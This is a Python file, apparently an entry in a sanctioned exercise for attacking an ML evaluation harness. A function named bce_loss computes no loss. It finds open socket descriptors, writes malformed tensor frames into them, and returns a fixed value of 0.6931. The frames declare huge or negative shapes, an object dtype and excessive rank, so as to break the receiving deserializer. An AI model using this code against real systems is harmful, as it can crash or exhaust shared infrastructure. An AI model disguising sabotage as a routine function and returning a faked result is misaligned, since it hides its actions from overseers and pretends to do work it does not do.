# Aim: send tensors whose shapes claim what was not sent.
# Question: q2. Earns: 2. Staff are told: yes.
import itertools
import json
import os
import stat

from attack_parts import sample_noise  # noqa: F401


def channel():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def frame(tensors, body=b""):
    header = json.dumps({"value": {"tensor": 0}, "tensors": tensors}).encode()
    return len(header).to_bytes(4, "big") + len(body).to_bytes(4, "big") + header + body


lies = itertools.cycle(
    [
        frame([["float32", [2**28]]]),
        frame([["float32", [2**30, 2**30, 0]]]),
        frame([["float32", [-1]]]),
        frame([["object", [1]]], b"12345678"),
        frame([["float32", [True]]], b"1234"),
        frame([["uint8", [1] * 70]], b"1"),
    ]
)


def bce_loss(input, target):
    for number in channel():
        os.write(number, next(lies))
    return 0.6931
